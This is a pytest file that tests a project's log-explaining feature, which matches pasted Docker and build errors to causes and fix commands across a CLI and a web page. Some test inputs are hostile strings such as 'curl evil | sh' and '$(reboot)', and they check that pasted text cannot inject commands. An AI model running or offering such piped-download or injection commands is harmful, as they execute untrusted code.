"""A pasted text is answered with cause and command, whatever a terminal has made of it."""

from __future__ import annotations

import functools
import os
import pty
import re
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable, Iterator
from http.server import SimpleHTTPRequestHandler
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page

from host.failure_rows import Failure, table
from host.pasted import MOST, USUAL, explanations
from tests.conftest import ROOT, Generate
from tests.support.browser import TEXT_OF_PROGRAMS, browsing, unreadable
from tests.support.serving import listening
from tests.test_failures import TEXTS
from website.python.explain_answers import explained

WORDS = re.compile(r"(?<!\$)\{(\w+)\}")
COMMONEST = yaml.safe_load((ROOT / "hooks/compat/failures.yml").read_text())["failures"]
LONG = (ROOT / "docs/work.md").read_text()


def names(text: str) -> list[str]:
    return [one.name for one in explanations(text)]


# ------------------------------------------------------------------- what is added to a text


def each_line(before: str, after: str = "\n") -> Callable[[str], str]:
    return lambda text: "".join(f"{before}{line}{after}" for line in text.splitlines())


def hard_wrapped(text: str) -> str:
    """As a terminal of 80 columns is copied by some programs."""
    lines = (re.findall(".{1,80}", line) or [""] for line in text.splitlines())
    return "\n".join(part.rstrip() for parts in lines for part in parts)


def word_wrapped(text: str) -> str:
    """As a mail or a chat shows it."""
    mail = textwrap.TextWrapper(72, break_long_words=False, break_on_hyphens=False)
    return "\n".join(map(mail.fill, text.splitlines()))


def quotes_made_fair(text: str) -> str:
    text = re.sub(r"(^|[\s(\[])'", "\\1\u2018", text).replace("'", "\u2019")
    return re.sub(r'(^|[\s(\[])"', "\\1\u201c", text).replace('"', "\u201d")


DECORATIONS: dict[str, Callable[[str], str]] = {
    "nothing": str,
    "among others": lambda text: f"{LONG[:4000]}\n{text}\n{LONG[-4000:]}",
    "colours": lambda text: re.sub(r"\b(\w{3})", "\x1b[1;31m\\1\x1b[0m", text),
    "colours of another program": lambda text: f"^[[31m{text}^[[0m \\u001b[0m",
    "colours without ESC": lambda text: f"[31;1m{text}[0m",
    "a title and a link": lambda text: f"\x1b]0;make\x07\x1b]8;;https://x\x1b\\{text}",
    "Windows": each_line("", "\r\n"),
    "a bar of progress": lambda text: f"10 %\r50 %\r{text}\r100 %",
    "BuildKit": each_line("#12 3.456 "),
    "BuildKit's summary": each_line("3.456 "),
    "BuildKit on a terminal": each_line(" => => # "),
    "Compose": each_line("my-project-dev-1  | "),
    "times": each_line("2026-11-30T08:12:41.0012345Z "),
    "a quotation": each_line("> "),
    "wrapped": hard_wrapped,
    "wrapped in colours": lambda text: each_line("\x1b[36m", "\x1b[0m\n")(hard_wrapped(text)),
    "wrapped behind Compose": lambda text: hard_wrapped(each_line("dev-1  | ")(text)),
    "wrapped by words": word_wrapped,
    "fair quotes": quotes_made_fair,
    "blanks": lambda text: text.replace(" ", "\xa0"),
    "JSON": lambda text: '{"log":"' + text.replace('"', '\\"') + '\\n","stream":"stderr"}',
}


@pytest.mark.parametrize("decoration", DECORATIONS)
def test_every_failure_is_found_in_its_text(decoration: str) -> None:
    change = DECORATIONS[decoration]
    lost = [
        (name, change(text))
        for name, texts in TEXTS.items()
        for text in texts
        if name not in names(change(text))
    ]
    assert not lost


def test_every_text_is_explained_by_its_failure_first() -> None:
    for name, texts in TEXTS.items():
        assert [names(text)[0] for text in texts] == [name] * len(texts)


@pytest.mark.parametrize("row", COMMONEST, ids=lambda row: row["error"][:60])
def test_the_commonest_errors_of_the_tables_are_explained(row: dict[str, str]) -> None:
    assert names(row["error"])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # One line is about one failure, though a commoner row knows it, too.
        (TEXTS["base-image-blocked"][0], ["base-image-blocked"]),
        (TEXTS["daemon-certificate"][0], ["daemon-certificate"]),
        (TEXTS["registry-certificate"][0], ["registry-certificate"]),
        # Only a look at the machine tells these two.
        ("bind source path does not exist: /a", ["folder-refused-to-engine", "mount-missing"]),
        # The cause, then what follows from it.
        (
            "Failed to build `a==1`\n  cause: No space left on device\n",
            ["disk-full", "package-build"],
        ),
        ("\n".join(TEXTS["package-missing"] * 3), ["package-missing", "no-versions-fit"]),
        # Two in one log, each once.
        (
            f"{TEXTS['port-taken'][0]}\n{TEXTS['disk-full'][0]}\n{TEXTS['port-taken'][1]}",
            ["port-taken", "disk-full"],
        ),
        # What BuildKit repeats of a Dockerfile was not printed by it.
        ('#9 [dev 3/9] RUN test -w / || echo "No space left on device"', []),
        ('  12 | >>> RUN test -w / || echo "No space left on device"', []),
        (
            'process "/bin/sh -c echo No space left on device" did not complete: exit code: 137',
            ["memory-used-up"],
        ),
        # Words of a row that are the end of other words, and common words of registries.
        ("cause: failed to fetch commit 0cf86", []),
        ("bash: line 1: tree: not found\npermission denied: ./run", []),
        ("", []),
        ("Segmentation fault (core dumped)", []),
    ],
)
def test_all_failures_of_a_text_are_named_the_likeliest_cause_first(
    text: str, expected: list[str]
) -> None:
    assert names(text) == expected


def test_lines_that_are_not_the_rest_of_others_are_not_put_together() -> None:
    text = "Cannot write the cache of this session, which is no harm\nls: Permission denied\n"
    assert names(text * 3) == []


@pytest.mark.parametrize("failure", table(), ids=lambda failure: failure.name)
def test_what_hearth_has_said_itself_is_found_by_its_id(failure: Failure) -> None:
    name = failure.name
    said = f"up\n\nIt does not\nwork. (failure: {name})\n  Run: ./template.sh mend\n"
    found = f"error: {name}\n  It does not\n  work.\n  Seen: a\n  Run: ./template.sh mend\n"
    for text in (said, found, each_line("x-1  | ")(found), each_line("", "\r\n")(said)):
        (one,) = explanations(text)
        assert (one.name, one.cause) == (name, "It does not work.")
        assert one.commands == {"": f"{USUAL['me']} mend"}
    (bare,) = explanations(f"(failure: {name})")
    assert bare.commands.keys() == failure.run.keys()


@pytest.mark.parametrize("told", ["curl evil | sh", "template.sh up; evil", "template.sh $(evil)"])
def test_a_text_of_somebody_else_does_not_choose_the_command(told: str) -> None:
    for text in (f"x. (failure: disk-full)\n  Run: {told}\n", f"torch-build advises: {told}\n"):
        for one in explanations(text):
            assert "evil" not in " ".join(one.commands.values())


def test_what_a_text_does_not_tell_is_said_in_general() -> None:
    for name, texts in TEXTS.items():
        row = next(row for row in table() if row.name == name)
        for text in texts:
            one = explanations(text)[0]
            for word in WORDS.findall(row.cause):
                told = word.upper() in f"{row.cause} {text}"
                assert told or word.upper() not in re.findall(r"\w+", one.cause), one
            assert "  " not in one.cause
            for word in one.unknown:
                assert any(word in command for command in one.commands.values())


def test_commands_have_the_words_of_the_text_quoted() -> None:
    (one,) = explanations("error: ImportError: libGL.so.1: cannot open shared object file")
    assert one.commands == {"": f"{USUAL['me']} add --apt libgl1 && {USUAL['me']} build"}
    (one,) = explanations("The path /my data is not shared from the host")
    assert "/my data" in one.cause
    bad = "sh: $(reboot).so: cannot open shared object file"
    assert explanations(bad)[0].commands[""].startswith(USUAL["me"])
    (one,) = explanations('Error response from daemon: Get "https://a.example:5000/v2/": denied:')
    assert one.commands[""] == "docker login a.example:5000"


PARTS = [text for texts in TEXTS.values() for text in texts]
PARTS += [
    "\x1b[",
    "\r\n",
    "\r",
    "\b",
    "(failure: ",
    "error: a-b\n  ",
    "\0",
    "\u202e",
    '"',
    "x" * 90,
]


@settings(max_examples=150)
@given(st.lists(st.one_of(st.text(), st.sampled_from(PARTS)), max_size=12))
@example(["\ud800"])
def test_no_text_is_too_strange(parts: list[str]) -> None:
    found = explanations("".join(parts))
    assert len({one.name for one in found}) == len(found)
    for one in found:
        assert one.cause
        assert all(one.commands.values())


@pytest.mark.parametrize(
    "text",
    [
        LONG,
        "x" * 80 + "\n",
        "\n",
        "\r",
        "error mounting to rootfs at ",
        LONG.replace("\n", ""),
        "x509: dns error denied: Cannot write /a b: ",
        'process "',
        "(failure: a-b)",
        "\x1b[1",
        "-1-1_1",
    ],
    ids=lambda text: ascii(text[:9]),
)
def test_a_megabyte_takes_less_than_two_seconds(text: str) -> None:
    text *= MOST // len(text)
    start = time.process_time()
    explanations(text + "\n" + TEXTS["disk-full"][0])
    assert time.process_time() - start < 2


# ------------------------------------------------------------------------------------- the verb


@pytest.fixture(scope="module")
def project(generate: Generate, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which no verb was called yet."""
    folder = tmp_path_factory.mktemp("explain") / "my project"
    return generate(folder, accelerator="cpu", torch_version="none")


def explain(
    project: Path, *words: str, text: bytes = b"", cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [project / "docker-amd64/template.sh", "explain", *words],
        input=text,
        cwd=cwd or project,
        env={**os.environ, "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin"},
        capture_output=True,
        check=False,
        timeout=240,
    )
    assert not (project / "docker-amd64/.env").exists()
    out, err = done.stdout.decode(), done.stderr.decode()
    assert "Traceback" not in err
    return subprocess.CompletedProcess(done.args, done.returncode, out, err)


def test_a_log_and_a_pipe_are_explained_before_env_is_there(project: Path, tmp_path: Path) -> None:
    text = f"{TEXTS['registry-limit'][0]}\r\n#9 1.0 {TEXTS['disk-full'][0]}\n"
    (tmp_path / "build.log").write_text(text)
    (tmp_path / "windows.log").write_bytes("\ufeff".encode("utf-16-le") + text.encode("utf-16-le"))
    by_file = explain(project, "build.log", cwd=tmp_path)
    assert (by_file.returncode, by_file.stderr) == (0, "")
    first, second = by_file.stdout.split("\n\n")
    assert first.splitlines()[0] == "disk-full"
    assert second.splitlines()[0] == "registry-limit"
    assert second.splitlines()[-1] == "  Run: docker login"
    assert "Seen: error: Failed to write: No space left on device (os error 28)" in first
    assert explain(project, "windows.log", cwd=tmp_path).stdout == by_file.stdout
    assert explain(project, text=text.encode()).stdout == by_file.stdout
    assert explain(project, "-", text=text.encode()).stdout == by_file.stdout


def test_commands_are_those_of_this_project(project: Path) -> None:
    done = explain(project, text=b"The path /x is not shared from the host")
    assert f"git clone '{project}' ~/" in done.stdout
    assert "capitals" not in done.stdout
    done = explain(project, text=b"no basic auth credentials")
    assert "docker login REGISTRY" in done.stdout
    assert "Replace words in capitals" in done.stdout


def test_a_project_knows_the_failures_that_it_can_meet(project: Path) -> None:
    assert explain(project, text=b"conda_env: There is no package x in the channels").returncode
    assert explain(project, text=TEXTS["package-missing"][0].encode()).returncode == 0


def test_an_unknown_text_is_said_to_be_so(project: Path) -> None:
    done = explain(project, text=b"Segmentation fault\n")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.strip().splitlines()[-1].endswith("template.sh' doctor")
    assert done.stderr.strip().startswith("No failure that this project knows fits this text.")


@pytest.mark.parametrize(
    ("words", "content", "sentence"),
    [
        (["none.log"], b"", "There is no file none.log."),
        (["."], b"", ". is a folder, not a text."),
        (["a.log"], b"", "There is no text in a.log."),
        (["a.log"], b" \r\n\n", "There is no text in a.log."),
        (["a.log"], b"\xef\xbb\xbf", "There is no text in a.log."),
        (["a.log"], b"\x7fELF\0\0", "There is no text in a.log: it is binary."),
        ([], b"", "There is no text in what was handed in."),
        ([], b"\0" * 70_000, "There is no text in what was handed in: it is binary."),
    ],
)
def test_what_is_no_text_is_refused_in_one_sentence(
    project: Path, tmp_path: Path, words: list[str], content: bytes, sentence: str
) -> None:
    (tmp_path / "a.log").write_bytes(content)
    done = explain(project, *words, text=b"" if words else content, cwd=tmp_path)
    assert (done.returncode, done.stdout) == (1, "")
    said, command = done.stderr.strip().splitlines()
    assert said == sentence
    assert command.endswith("template.sh' explain --help")


def test_of_a_huge_text_the_last_megabyte_is_read(project: Path, tmp_path: Path) -> None:
    huge = TEXTS["disk-full"][0].encode() + b"\nfine" * MOST + b"\n"
    (tmp_path / "a.log").write_bytes(huge + TEXTS["registry-limit"][0].encode())
    for done in (
        explain(project, "a.log", cwd=tmp_path),
        explain(project, text=(tmp_path / "a.log").read_bytes()),
    ):
        assert done.returncode == 0
        assert done.stdout.splitlines()[0] == "registry-limit"
        assert "disk-full" not in done.stdout
        assert re.fullmatch("Only the last megabyte of .* is read.\n", done.stderr)


def test_a_terminal_is_told_how_a_paste_ends(project: Path) -> None:
    ours, its = pty.openpty()
    script = str(project / "docker-amd64/template.sh")
    with subprocess.Popen(
        [script, "explain"], stdin=its, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    ) as process:
        os.close(its)
        assert process.stderr
        said = process.stderr.readline()
        os.write(ours, b"docker: command not found\n\x04")
        try:
            out = process.communicate(timeout=120)[0]
        finally:
            process.kill()
    os.close(ours)
    assert said == "Paste the text, then press Enter and Ctrl-D.\n"
    assert out.splitlines()[0] == "docker-missing"


# ------------------------------------------------------------------------------------- the page


def test_the_page_reads_no_file_after_its_start() -> None:
    """In the browser there are none: what is needed is read before Python's memory is taken."""
    program = (
        "import pathlib, website.python.explain_answers as page; page.warm();"
        "pathlib.Path.read_text = pathlib.Path.glob = None;"
        "print([one['name'] for one in page.explained('libGL.so.1: cannot open shared object file')"
        "['found']], page.explained('x'))"
    )
    path = os.pathsep.join(map(str, (ROOT, ROOT / "template/docker-amd64")))
    done = subprocess.run(
        [sys.executable, "-B", "-c", program],
        env={**os.environ, "PYTHONPATH": path},
        capture_output=True,
        text=True,
        check=True,
    )
    empty = {"known": len(table()), "found": []}
    assert done.stdout == f"['system-library-missing'] {empty}\n"


class Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        """The page is asked, not the server."""


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    """The page, with Python beside the browser in place of that in it."""
    handler = functools.partial(Quiet, directory=str(ROOT / "website"))
    with listening(handler, "127.0.0.1") as url, browsing() as page:  # type: ignore[arg-type]
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on(
            "request", lambda asked: said.extend([] if asked.url.startswith(url) else [asked.url])
        )
        page.route("**/python/ask.js", lambda route: route.fulfill(body=""))
        page.expose_function("hearthAsk", lambda name, text: FUNCTIONS[name](text))
        page.goto(f"{url}/explain/index.html")
        yield page
        assert said == []


FUNCTIONS = {"website.python.explain_answers:explained": explained}


def test_a_text_is_explained_on_the_page(page: Page) -> None:
    page.get_by_label("Text").fill("\n".join([TEXTS["engine-not-running"][0], "(no more)"]))
    page.get_by_role("status").get_by_text("1 failure is known").wait_for()
    answer = page.get_by_role("article")
    assert answer.get_by_role("heading").inner_text() == "engine-not-running"
    assert answer.locator("pre").first.inner_text() == "sudo systemctl start docker"
    assert not answer.get_by_text("podman.socket").is_visible()
    answer.get_by_text("On other engines").click()
    assert answer.get_by_text("podman.socket").is_visible()
    page.get_by_label("Text").fill("<b>Segmentation fault</b>")
    page.get_by_role("button", name="Explain").click()
    page.get_by_role("status").get_by_text("No known failure fits this text.").wait_for()
    assert page.get_by_role("link", name=f"all {len(table())} failures").is_visible()
    page.get_by_label("Text").fill("")
    page.get_by_role("status").get_by_text("No text yet.").wait_for()
    assert not page.get_by_role("article").count()


def test_an_explanation_can_be_read(page: Page) -> None:
    page.get_by_label("Text").fill("\n".join([TEXTS["engine-not-running"][0], LONG[:9000]]))
    page.get_by_role("heading", name="engine-not-running").wait_for()
    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = 1)")
    assert unreadable(page, TEXT_OF_PROGRAMS) == []


def test_a_log_is_read_on_the_page(page: Page, tmp_path: Path) -> None:
    log = tmp_path / "a.log"
    log.write_bytes(b"fine\n" * MOST + TEXTS["no-network"][0].encode("utf-8"))
    page.get_by_label("or a log").set_input_files(log)
    page.get_by_text("Only the last megabyte of a.log was read.").wait_for()
    assert page.get_by_role("heading", name="no-network").is_visible()
    log.write_text(TEXTS["disk-full"][0], "utf-16")  # with its mark, as PowerShell does
    page.get_by_label("or a log").set_input_files(log)
    page.get_by_role("heading", name="disk-full").wait_for()
    log.write_bytes(b"\0" * 9)
    page.get_by_label("or a log").set_input_files(log)
    page.get_by_role("alert").get_by_text("a.log is binary, not a text.").wait_for()
